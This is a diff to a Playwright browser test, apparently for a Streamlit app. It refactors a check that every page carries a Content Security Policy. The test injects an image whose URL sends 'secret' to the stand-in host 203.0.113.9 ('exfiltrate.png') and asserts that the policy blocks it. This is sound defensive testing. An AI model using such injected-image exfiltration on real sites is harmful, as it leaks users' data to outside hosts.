@@ -13,8 +13,15 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-
-from test_browser import ARTIFACTS, Server, browser, explained, serve, shot, wait_for_app
+from test_browser import (
+    ARTIFACTS,
+    Server,
+    browser,
+    explained,
+    serve,
+    shot,
+    wait_for_app,
+)
 
 pytestmark = [pytest.mark.browser]
 __all__ = ["browser"]  # the fixture, imported so pytest finds it here
@@ -173,7 +180,6 @@ def test_signed_in_the_uploader_works_and_a_big_upload_is_taken_until_log_out(br
     uploader works and the session's upload URL takes 50 MB (the server's memory grows by it: the
     memory check sees an upload); after Log out the same session's URL refuses."""
     from playwright.sync_api import expect
-
     from stream_helpers import put_upload, rss_bytes
     from test_browser import create_store, rerun_and_wait
 
@@ -213,49 +219,52 @@ def test_signed_in_the_uploader_works_and_a_big_upload_is_taken_until_log_out(br
 
 def test_every_page_has_the_csp_breaks_nothing_and_an_injected_outside_image_is_blocked(
         browser, gate_server: Server, sec_artifacts: Path):
-    from playwright.sync_api import expect
 
+    for width, height in ((1280, 800), (390, 844)):
+        _pages_under_csp(browser, gate_server, sec_artifacts, width, height)
+
+
+def _pages_under_csp(browser, server: Server, sec_artifacts: Path, width: int, height: int) -> None:
+    from playwright.sync_api import expect
     from test_browser import rerun_and_wait
 
-    server = gate_server
-    for width, height in ((1280, 800), (390, 844)):
-        context = browser.new_context(viewport={"width": width, "height": height})
-        pg = context.new_page()
-        violations: list[str] = []
-        documents: list[str | None] = []
-        failed: list[tuple[str, str]] = []
-        pg.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
-        pg.on("response", lambda r: documents.append(r.headers.get("content-security-policy"))
-              if r.request.resource_type == "document" else None)
-        pg.on("requestfailed", lambda r: failed.append((r.url, r.failure or "")))
-        try:
-            with explained(pg, server, sec_artifacts):
-                _sign_in(pg, server)
-                assert documents and all(documents), documents  # each HTML load carried the policy
-                assert "img-src 'self' data: blob:" in documents[-1]
-                # wide: every page through the sidebar; on a phone (sidebar folded) two by their links
-                for title in SIDEBAR if width > 600 else ["Vector stores", "Chat"]:
-                    if width > 600:
-                        rerun_and_wait(pg, lambda: pg.get_by_test_id("stSidebarNav").get_by_role(
-                            "link", name=title, exact=True).click())
-                    else:
-                        _sign_in(pg, server, {"Vector stores": "stores", "Chat": "chat"}[title])
-                    expect(pg.locator("h1").first).to_be_visible()
-                    pg.wait_for_timeout(300)
-                    assert not violations, (title, violations)
-                    assert not [f for f in failed if "/_stcore/" in f[0] and "/stores/" not in f[0]], failed
-                    if title in ("Vector stores", "Chat"):
-                        shot(pg, sec_artifacts, f"4{SIDEBAR.index(title)}-csp-{title.split()[0].lower()}-{width}.png")
-                blocked = pg.evaluate("""() => new Promise(done => {
-                    document.addEventListener('securitypolicyviolation',
-                        e => done(e.violatedDirective + ' ' + e.blockedURI), {once: true});
-                    const img = document.createElement('img');
-                    img.src = 'http://203.0.113.9/exfiltrate.png?d=secret';
-                    document.body.appendChild(img);
-                    setTimeout(() => done('not blocked'), 10000);
-                })""")
-                assert blocked.startswith("img-src http://203.0.113.9/exfiltrate.png"), blocked
-                outside = [f for f in failed if "203.0.113.9" in f[0]]
-                assert outside and all("csp" in why for _, why in outside), outside  # never sent
-        finally:
-            context.close()
+    context = browser.new_context(viewport={"width": width, "height": height})
+    pg = context.new_page()
+    violations: list[str] = []
+    documents: list[str | None] = []
+    failed: list[tuple[str, str]] = []
+    pg.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+    pg.on("response", lambda r: documents.append(r.headers.get("content-security-policy"))
+          if r.request.resource_type == "document" else None)
+    pg.on("requestfailed", lambda r: failed.append((r.url, r.failure or "")))
+    try:
+        with explained(pg, server, sec_artifacts):
+            _sign_in(pg, server)
+            assert documents and all(documents), documents  # each HTML load carried the policy
+            assert "img-src 'self' data: blob:" in documents[-1]
+            # wide: every page through the sidebar; on a phone (sidebar folded) two by their links
+            for title in SIDEBAR if width > 600 else ["Vector stores", "Chat"]:
+                if width > 600:
+                    link = pg.get_by_test_id("stSidebarNav").get_by_role("link", name=title, exact=True)
+                    rerun_and_wait(pg, link.click)
+                else:
+                    _sign_in(pg, server, {"Vector stores": "stores", "Chat": "chat"}[title])
+                expect(pg.locator("h1").first).to_be_visible()
+                pg.wait_for_timeout(300)
+                assert not violations, (title, violations)
+                assert not [f for f in failed if "/_stcore/" in f[0] and "/stores/" not in f[0]], failed
+                if title in ("Vector stores", "Chat"):
+                    shot(pg, sec_artifacts, f"4{SIDEBAR.index(title)}-csp-{title.split()[0].lower()}-{width}.png")
+            blocked = pg.evaluate("""() => new Promise(done => {
+                document.addEventListener('securitypolicyviolation',
+                    e => done(e.violatedDirective + ' ' + e.blockedURI), {once: true});
+                const img = document.createElement('img');
+                img.src = 'http://203.0.113.9/exfiltrate.png?d=secret';
+                document.body.appendChild(img);
+                setTimeout(() => done('not blocked'), 10000);
+            })""")
+            assert blocked.startswith("img-src http://203.0.113.9/exfiltrate.png"), blocked
+            outside = [f for f in failed if "203.0.113.9" in f[0]]
+            assert outside and all("csp" in why for _, why in outside), outside  # never sent
+    finally:
+        context.close()
